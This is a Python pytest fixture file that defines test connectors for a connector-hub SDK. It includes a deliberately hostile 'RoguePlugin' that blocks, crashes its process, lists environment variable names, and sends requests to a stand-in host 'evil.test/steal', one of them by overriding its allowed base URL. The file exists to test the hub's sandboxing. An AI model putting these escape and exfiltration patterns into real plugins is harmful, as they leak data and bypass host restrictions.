"""Test connectors shared by the unit and integration suites (exposed as fixtures, because test
modules are imported in importlib mode and cannot import each other).

- ``EchoApi``: an API-key connector whose provider answers through the (stand-in) gateway;
- ``OAuthThing``: an OAuth connector (connections wait in ``initializing``);
- ``RoguePlugin``: a custom connector that blocks, hangs, raises, exits or tries to escape (it
  runs in a worker process, which loads it from this file).
"""

from __future__ import annotations

import asyncio
import os
import time
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from pydantic import BaseModel, Field

from hub_connector_sdk import (
    ActionResult,
    ApiKeyPlacement,
    ApiSpec,
    AuthenticationMethod,
    AuthSpec,
    BaseConnector,
    ConnectorCategory,
    ConnectorHealth,
    ContentDocument,
    CredentialField,
    ExportPage,
    OAuthConfig,
    TriggerType,
    WebhookRegistration,
    action,
    trigger,
)
from hub_connectors.registry import ConnectorRegistry


class EchoParams(BaseModel):
    message: str = Field(min_length=1)
    times: int = Field(default=1, ge=1, le=10)


class EchoApi(BaseConnector):
    id = "echoapi"
    name = "Echo API"
    version = "1.2.0"
    category = ConnectorCategory.COMMUNICATION
    description = "A provider that echoes."
    auth = AuthSpec(
        method=AuthenticationMethod.API_KEY,
        api_key=ApiKeyPlacement(name="X-Api-Key", prefix=""),
        fields=[CredentialField(key="api_key", label="API key", pattern=r"[a-z\-]{3,40}")],
    )
    api = ApiSpec(
        base_url="https://api.echo.test",
        allowed_hosts=["api.echo.test", "*.echo.test"],
        config_schema={
            "type": "object",
            "properties": {"base_url": {"type": "string"}, "region": {"enum": ["eu", "us"]}},
            "additionalProperties": False,
        },
    )
    health_path = "me"
    webhook_signature = "github-sha256"

    async def health_check(self) -> ConnectorHealth:
        health = await super().health_check()
        if not health.is_healthy:
            return health
        me = (await self.client.get("me")).json()
        return health.model_copy(update={"account_info": {"id": me["id"], "name": me["name"]}})

    @action(params=EchoParams, output={"type": "object"})
    async def echo(self, params: EchoParams) -> Any:
        """Echo a message back."""
        resp = await self.client.post("echo", json={"message": params.message * params.times})
        return resp.json()

    async def export_content(self, cursor: str | None) -> ExportPage:
        """Pages of two documents; the cursor is how many were read (after the last page: where
        an incremental export picks up documents added since)."""
        offset = int(cursor or 0)
        body = (await self.client.get("docs", params={"offset": offset})).json()
        documents = [ContentDocument.model_validate(d) for d in body["docs"]]
        return ExportPage(documents=documents, cursor=str(offset + len(documents)), has_more=body["more"])

    @action()
    async def limited(self, params: dict[str, Any]) -> Any:
        """Call an endpoint the provider rate-limits."""
        return (await self.client.get("limited")).json()

    @action(
        params={"type": "object", "properties": {"kb": {"type": "integer"}}, "additionalProperties": False}
    )
    async def big(self, params: dict[str, Any]) -> ActionResult:
        """Return a lot of data."""
        return ActionResult.ok({"blob": "x" * 1024 * int(params.get("kb", 64)), "api_key": "leaky-value"})


class PagerLike(EchoApi):
    """A PagerDuty-style plugin: the provider creates the webhook signing secret itself and
    shows it once, in the answer to the subscription request."""

    id = "pagerlike"
    name = "Pager-like"
    webhook_signature = "github-sha256"

    def webhook_event_name(self, headers: Any, payload: Any) -> str | None:
        return (payload.get("event") or {}).get("event_type") if isinstance(payload, dict) else None

    @trigger("incident_triggered", type=TriggerType.CREATED, events=["incident.triggered"])
    def on_incident(self, event: str, payload: dict[str, Any]) -> dict[str, Any]:
        """An incident was triggered."""
        return {"id": payload["event"]["data"]["id"]}

    async def register_webhook(
        self, trigger_ids: list[str], target_url: str, secret: str
    ) -> WebhookRegistration:
        resp = await self.client.post(
            "webhook_subscriptions",
            json={"delivery_method": {"type": "http_delivery_method", "url": target_url},
                  "events": ["incident.triggered"]},
        )  # fmt: skip
        created = resp.json()["webhook_subscription"]
        return WebhookRegistration(
            external_id=created["id"],
            events=["incident.triggered"],
            secret=created["delivery_method"]["secret"],
        )

    async def unregister_webhook(self, registration: WebhookRegistration) -> None:
        await self.client.delete(f"webhook_subscriptions/{registration.external_id}")


class OAuthThing(BaseConnector):
    id = "oauththing"
    name = "OAuth Thing"
    category = ConnectorCategory.PROJECT_MANAGEMENT
    description = "Connects with OAuth."
    auth = AuthSpec(
        method=AuthenticationMethod.OAUTH2,
        oauth=OAuthConfig(
            authorization_url="https://auth.thing.test/authorize", token_url="https://auth.thing.test/token"
        ),
    )
    api = ApiSpec(base_url="https://api.thing.test")
    health_path = "user"

    def health_account_info(self, body: Any) -> dict[str, str]:
        return {"id": str(body["id"])} if isinstance(body, dict) and body.get("id") else {}

    @action()
    async def ping(self, params: dict[str, Any]) -> Any:
        return {"pong": True}


class SleepParams(BaseModel):
    seconds: float = Field(default=5.0, ge=0, le=60)


class RoguePlugin(BaseConnector):
    """Everything a badly written (or hostile) plugin might do."""

    id = "rogue"
    name = "Rogue plugin"
    category = ConnectorCategory.CUSTOM
    description = "Misbehaves on purpose."
    auth = AuthSpec(method=AuthenticationMethod.BEARER)
    api = ApiSpec(base_url="https://api.rogue.test", allowed_hosts=["api.rogue.test"])

    async def health_check(self) -> ConnectorHealth:
        return ConnectorHealth(is_healthy=True, message="fine", account_info={"id": "rogue-account"})

    @action(params=SleepParams)
    async def block(self, params: SleepParams) -> Any:
        """Blocks its thread (no await)."""
        time.sleep(params.seconds)  # noqa: ASYNC251 - the misbehaviour under test
        return {"slept": params.seconds}

    @action(params=SleepParams)
    async def hang(self, params: SleepParams) -> Any:
        await asyncio.sleep(params.seconds)
        return {"slept": params.seconds}

    @action()
    async def explode(self, params: dict[str, Any]) -> Any:
        raise RuntimeError("boom")

    @action()
    async def exit(self, params: dict[str, Any]) -> Any:
        raise SystemExit(3)

    @action()
    async def fast(self, params: dict[str, Any]) -> Any:
        return {"ok": True}

    @action()
    async def die(self, params: dict[str, Any]) -> Any:
        """Ends its process at once (no exception to catch)."""
        os._exit(7)

    @action()
    async def environ(self, params: dict[str, Any]) -> Any:
        """What the process it runs in was given."""
        return {"names": sorted(os.environ), "pid": os.getpid()}

    @action()
    async def escape(self, params: dict[str, Any]) -> Any:
        """Tries to reach a host its manifest does not declare."""
        self.client._http.base_url = httpx.URL("https://evil.test/")
        resp = await self.client.get("steal")
        return {"status": resp.status_code}

    @action()
    async def absolute(self, params: dict[str, Any]) -> Any:
        resp = await self.client.get("https://evil.test/steal")
        return {"status": resp.status_code}


def make_registry(hub_version: str = "0.1.0") -> ConnectorRegistry:
    registry = ConnectorRegistry(hub_version)
    registry.add_builtin(EchoApi)
    registry.add_builtin(OAuthThing)
    registry.add_plugin(RoguePlugin, source="rogue", distribution="hub-rogue")
    registry.add_plugin(PagerLike, source="pagerlike", distribution="hub-pagerlike")
    return registry


@pytest.fixture(scope="session")
def kit() -> SimpleNamespace:
    return SimpleNamespace(
        EchoApi=EchoApi,
        OAuthThing=OAuthThing,
        RoguePlugin=RoguePlugin,
        make_registry=make_registry,
    )
